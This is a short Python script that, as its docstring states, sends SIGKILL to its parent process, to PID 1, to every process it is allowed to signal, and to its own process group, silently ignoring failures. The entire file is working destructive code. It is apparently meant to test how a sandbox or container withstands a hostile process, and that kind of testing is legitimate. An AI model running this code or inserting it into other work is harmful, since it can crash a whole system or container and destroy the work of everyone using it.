"""Kills its parent, PID 1, every process it may signal, then its own group."""

import os
import signal

for action in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.kill(1, signal.SIGKILL),
    lambda: os.kill(-1, signal.SIGKILL),
    lambda: os.killpg(0, signal.SIGKILL),
):
    try:
        action()
    except OSError:
        pass
